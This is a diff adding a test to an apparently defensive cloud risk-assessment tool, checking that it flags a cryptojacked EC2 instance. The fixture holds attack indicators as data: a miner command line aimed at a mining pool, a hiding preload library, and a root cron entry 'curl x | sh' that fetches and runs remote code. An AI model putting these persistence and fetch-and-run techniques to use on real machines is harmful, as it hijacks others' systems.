@@ -128,3 +128,25 @@ def test_a_token_that_the_cluster_does_not_know_is_said_and_nothing_passes(serve
     _, answer = assess(serve(careless()).kubeconfig(token="stranger"))
     assert "access entry" in json.dumps(answer)
     assert found(answer) == set()
+
+
+def test_what_goes_on_in_a_node_raises_its_instance_with_the_evidence(tmp_path: Path) -> None:
+    report = tmp_path / "i-0123456789abcdef0.json"
+    report.write_text(json.dumps({
+        "schema": 1, "at": "2026-11-26T00:00:00Z",
+        "processes": {"7": {"argv": ["/tmp/x", "-o", "stratum+tcp://pool.supportxmr.com:443"]}},
+        "sockets": {"to_pools": [{"address": "203.0.113.9", "port": 3333, "pid": "7"}]},
+        "mining": {"preload": ["/usr/local/lib/hide.so"], "cron": ["* * * * * root curl x | sh"], "programs": ["/tmp/x"]},
+    }))
+    done = subprocess.run(
+        [PICKET, "assess", "--node", report, "--output", "json"],
+        capture_output=True, text=True, timeout=120, env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)},
+    )
+    assert done.stdout, done.stderr
+    risk = json.loads(done.stdout)["assets"][0]
+    assert risk["asset"] == "ec2.instance/i-0123456789abcdef0" and risk["score"] >= 95
+    mines, hides = risk["reasons"][:2]
+    assert (mines["signal"], hides["signal"]) == ("live_critical", "live_high")
+    assert "stratum" in mines["evidence"] and "203.0.113.9:3333" in mines["evidence"], mines
+    for sign in ("hide.so", "curl x | sh", "/tmp/x"):
+        assert sign in hides["evidence"], hides
